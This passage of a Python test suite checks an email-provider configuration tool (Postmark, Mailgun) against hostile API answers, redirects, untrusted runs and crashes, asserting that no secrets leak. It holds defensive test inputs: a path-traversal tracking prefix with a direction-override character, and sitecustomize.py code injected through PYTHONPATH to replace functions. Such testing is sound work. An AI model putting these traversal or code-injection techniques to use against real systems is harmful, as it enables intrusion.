    scene.check(scene.run(f"--debug {first} --prune", *ALSO_AS_JSON.get(name, ())))


def plant(scene: Scene, site: str, path: str, status: int, body: Any, method: str = "GET") -> None:
    told = body if isinstance(body, str) else json.dumps(body)
    fault = {
        "path": path,
        "method": method,
        "times": 99,
        "status": status,
        "body": told.replace("@TOKEN@", scene.tokens["POSTMARK_SERVER_TOKEN"]),
        "headers": {"Location": f"{scene.listener.url}/x"} if status == 302 else {},
    }
    assert control(scene.box, site, "POST", "faults", fault) == {"ok": True}


def domain(**fields: Any) -> dict[str, Any]:
    return {"domain": {"name": "mg.example.com", "id": "1", "web_scheme": "https", **fields}}


KEY = {"record_type": "TXT", "name": WORDS, "value": WORDS, "is_active": False, "valid": "unknown"}
MAILGUN_ANSWERS: dict[str, tuple[str, int, Any]] = {
    "a refusal with hostile words": ("/v4/domains", 400, {"message": WORDS}),
    "a refusal in plain text": ("/v4/domains", 400, WORDS),
    "a hostile name of an unmanaged domain": (
        "/v4/domains",
        200,
        {"total_count": 2, "items": [{"name": "mg.example.com"}, {"name": WORDS}]},
    ),
    "a hostile reason why a domain is disabled": (
        "/v4/domains",
        200,
        {
            "total_count": 1,
            "items": [
                {
                    "name": "mg.example.com",
                    "state": "disabled",
                    "web_scheme": "https",
                    "disabled": {"code": WORDS, "reason": WORDS, "until": WORDS},
                }
            ],
        },
    ),
    "a hostile tracking host": ("/v4/domains/mg.example.com", 200, domain(web_prefix=WORDS)),
    "a tracking host that leads out of its path": (
        "/v4/domains/mg.example.com",
        200,
        domain(web_prefix="../../v3/x?y=\u202e"),
    ),
    "a hostile DKIM key": (
        "/v4/domains/mg.example.com/keys",
        200,
        {"items": [{"selector": WORDS, "dns_record": KEY}]},
    ),
    "a hostile reason of a certificate": (
        "/v2/x509/*/status",
        200,
        {"status": "error", "error": WORDS},
    ),
    "a redirect to the stranger": ("/v4/domains", 307, ""),
}


@pytest.mark.parametrize("name", MAILGUN_ANSWERS)
def test_a_hostile_answer_of_mailgun_breaks_no_promise(scene: Scene, name: str) -> None:
    path, status, body = MAILGUN_ANSWERS[name]
    scene.write(EU if "keys" in path or path == "/v4/domains" else EU.replace(DKIM, ""))
    listed = {"total_count": 1, "items": [domain()["domain"]]}
    if path != "/v4/domains":
        plant(scene, "mailgun_eu", "/v4/domains", 200, listed)
    plant(scene, "mailgun_eu", path, status, body)
    scene.check(scene.run("--debug apply --yes", *ALSO_AS_JSON.get(name, ())))


@pytest.mark.parametrize("format_", ["text", "json"])
def test_a_hostile_refusal_of_a_write_breaks_no_promise(scene: Scene, format_: str) -> None:
    scene.write(SIGNED)
    plant(scene, "postmark", "/server", 422, {"ErrorCode": 1, "Message": WORDS}, "PUT")
    plant(scene, "postmark", "/domains", 422, {"ErrorCode": 1, "Message": WORDS}, "POST")
    (done,) = scene.run(f"apply --yes --format {format_}")
    assert done.code == 5
    scene.check([done])


def test_a_redirect_of_a_write_is_not_followed(scene: Scene) -> None:
    scene.write(SIGNED)
    plant(scene, "postmark", "/server", 302, "", "PUT")
    (done,) = scene.run("apply --yes")
    assert "a redirect, which is never followed" in done.text
    scene.check([done])


def test_a_hostile_answer_to_a_one_off_action_breaks_no_promise(scene: Scene) -> None:
    scene.write(SIGNED)
    body = {"TotalCount": 1, "Domains": [{"ID": 1, "Name": "example.com"}]}
    answer = {"ID": 1, "Name": "example.com", "DKIMHost": WORDS, "DKIMTextValue": WORDS}
    plant(scene, "postmark", "/domains", 200, body)
    plant(scene, "postmark", "/domains/1", 200, answer)
    action = "run verify p/domains/example.com --yes"
    scene.check(scene.run(action, f"{action} --format json"))


SECRETS = postmark(
    """\
    tracking: {opens: true}
    webhooks:
      - url: https://hooks.example.com/x
        headers: {A: {env: ESP_HOOK}, B: {sops: {file: s.sops.yaml, key: token}}}
        auth: {username: u, password: {file: password}}
""",
    "{file: secrets/token}",
)


def with_secrets(scene: Scene) -> None:
    scene.write(SECRETS)
    (scene.folder / "s.sops.yaml").write_bytes(encrypted("    age: []\n"))
    for name in ("token", "password"):
        (scene.folder / "secrets" / name).write_text("in-a-file-5d41402a\n", encoding="utf-8")


@pytest.mark.parametrize(
    ("command", "code"),
    [
        ("--untrusted validate", 0),
        ("--untrusted plan", 4),
        ("--untrusted plan --format json", 4),
        ("--untrusted apply --yes", 4),
        ("--untrusted secrets check", 4),
        ("--untrusted secrets list --file s.sops.yaml", 4),
        ("--untrusted run verify p/webhooks/outbound/https://hooks.example.com/x --yes", 4),
        ("--untrusted --sandbox plan", 0),
        ("--untrusted --sandbox apply --yes", 0),
    ],
)
def test_an_untrusted_run_resolves_nothing(scene: Scene, command: str, code: int) -> None:
    with_secrets(scene)
    (done,) = scene.run(command)
    assert done.code == code, done
    assert "in-a-file" not in done.text
    assert not scene.sops.exists()
    assert all(relay.told == [] for relay in scene.relays.values())
    scene.check([done])
    assert not any(b"in-a-file" in path.read_bytes() for path in scene.folder.rglob("*.json"))


def test_a_plan_without_trust_still_tells_what_is_declared(scene: Scene) -> None:
    with_secrets(scene)
    scene.more["ESP_RECONCILE_UNTRUSTED"] = "1"
    (done,) = scene.run("plan")
    assert done.code == 4
    assert b"p/webhooks/outbound/https://hooks.example.com/x" in done.out
    assert b"esp.yaml:5:12" in done.err


def test_the_embedded_sandbox_keeps_no_real_secret_in_its_file(scene: Scene) -> None:
    hook = "    webhooks: [{url: https://a.example, headers: {X: {env: ESP_HOOK}}}]"
    scene.write(postmark(hook, "{env: POSTMARK_NOT_SET}").replace("POSTMARK_ACC", "POSTMARK_NO"))
    (done,) = scene.run("--sandbox apply --yes")
    assert done.code == 0, done
    assert (scene.folder / ".esp-sandbox" / "state.json").exists()
    scene.check([done])


def test_debugging_tells_method_path_status_and_time_and_no_more(scene: Scene) -> None:
    scene.write(SIGNED)
    (done,) = scene.run("--debug plan")
    assert done.code == 0
    lines = done.err.decode().splitlines()
    assert len(lines) == sum(len(relay.told) for relay in scene.relays.values())
    for line in lines:
        assert re.fullmatch(r"GET /[\w/.-]* 200 \d+ ms", line)
    scene.check([done])


CRASHES = {
    "plan": "reconciler.library.reconciler:look_and_plan",
    "apply --yes --format json": "reconciler.library.reconciler:apply_plan",
    "secrets check": "reconciler.secrets:Resolver.resolve_token",
}
BROKEN = """\
import importlib, sys

class Odd(Exception):
    def __str__(self):
        return "canary-text"

def broken(*_, **__):
    password = "canary-variable"
    try:
        raise ValueError("canary-cause")
    except ValueError as cause:
        raise Odd("canary-message", password) from cause

module, _, path = "@PLACE@".partition(":")
place = importlib.import_module(module)
*above, name = path.split(".")
for each in above:
    place = getattr(place, each)
setattr(place, name, broken)
"""


@pytest.mark.parametrize("command", CRASHES)
def test_a_bug_ends_in_a_short_message_and_a_report_without_values(
    scene: Scene, command: str
) -> None:
    scene.write(SIGNED)
    site = scene.around / "site"
    site.mkdir()
    code = BROKEN.replace("@PLACE@", CRASHES[command])
    (site / "sitecustomize.py").write_text(code, encoding="utf-8")
    scene.more["PYTHONPATH"] = str(site)
    (done,) = scene.run(command)
    assert done.code == 1
    (report,) = (scene.around / "tmp").iterdir()
    said = f"Error: this is a bug in esp-reconcile (Odd); please report it with {report}"
    assert said in done.err.decode()
    assert done.err.count(b"\n") == 1
    if "json" in command:
        assert f"Error: {json.loads(done.out)['error']['message']}\n" == done.err.decode()
    told = report.read_text(encoding="utf-8")
    assert ".Odd\n" in told
    assert "builtins.ValueError\n" in told
    assert "in broken" in told
    assert stat.S_IMODE(report.stat().st_mode) == 0o600
    for secret in (CANARY, *scene.tokens.values()):
        assert secret not in told + done.text


def test_the_process_leaves_no_core(scene: Scene) -> None:
    site = scene.around / "site"
    site.mkdir()
    # As on a machine that keeps cores: without this the limit may be 0 from the beginning.
    raised = (
        "import resource as r; r.setrlimit(r.RLIMIT_CORE, (r.getrlimit(r.RLIMIT_CORE)[1],) * 2)"
    )
    (site / "sitecustomize.py").write_text(f"{raised}\n", encoding="utf-8")
    scene.more["PYTHONPATH"] = str(site)
    fake_sops(scene, f'cat /proc/$PPID/limits > {scene.around}/limits; echo \'{{"token": "x"}}\'')
    with_secrets(scene)
    scene.run("secrets check")
    limits = (scene.around / "limits").read_text(encoding="utf-8")
    assert re.search(r"^Max core file size +0 +0 ", limits, re.MULTILINE), limits
